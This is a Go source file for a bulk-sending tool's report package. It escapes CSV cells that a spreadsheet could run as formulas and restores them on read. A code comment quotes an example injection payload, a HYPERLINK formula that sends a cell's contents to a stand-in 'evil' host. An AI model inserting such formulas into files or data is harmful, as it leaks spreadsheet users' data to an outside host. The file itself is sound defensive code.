package report

import "strings"

// A CSV report is opened in spreadsheets, and a spreadsheet runs a cell
// that starts with = + - or @ as a formula: an id or a server's answer like
// =HYPERLINK("http://evil/?"&A1) would run on the reader's machine. So a
// text cell of a CSV report whose first character could start a formula
// gets a ' in front, the mark spreadsheets themselves use for "text":
//
//   - a cell starting with =, @, a tab or a carriage return;
//   - a cell starting with + or - unless the rest is a number or a phone
//     number: digits, with only spaces and . ( ) - / between them, so
//     +15550001, +1 (555) 000-1 and -3.5 stay as they are;
//   - a cell already starting with ' whose rest would be guarded, so a
//     value that begins with ' reads back unchanged.
//
// Read removes the ' again, so resume, merge and status see each value as
// it was. JSONL reports are not guarded: no spreadsheet runs them.

// GuardCell returns s as a CSV file bulksend writes stores it (a report, a
// suppress list): with a ' in front when it could start a formula.
func GuardCell(s string) string { return guard(s) }

// UnguardCell returns the value a cell written by GuardCell stores.
func UnguardCell(s string) string { return unguard(s) }

// guard returns s as a CSV report stores it.
func guard(s string) string {
	if needsGuard(s) {
		return "'" + s
	}
	return s
}

// unguard returns the value a CSV report cell stores.
func unguard(s string) string {
	if len(s) > 1 && s[0] == '\'' && needsGuard(s[1:]) {
		return s[1:]
	}
	return s
}

// needsGuard reports whether s, written as is, could be read as a formula,
// or would lose a leading ' to unguard.
func needsGuard(s string) bool {
	s = strings.TrimLeft(s, "'")
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '@', '\t', '\r':
		return true
	case '+', '-':
		return !numeric(s[1:])
	}
	return false
}

// numeric reports whether s is digits with only spaces and . ( ) - /
// between or around them, and at least one digit: a number or a phone
// number, which a spreadsheet can compute at worst, never call out from.
func numeric(s string) bool {
	digits := false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case '0' <= c && c <= '9':
			digits = true
		case strings.IndexByte(" .()-/", c) >= 0:
		default:
			return false
		}
	}
	return digits
}
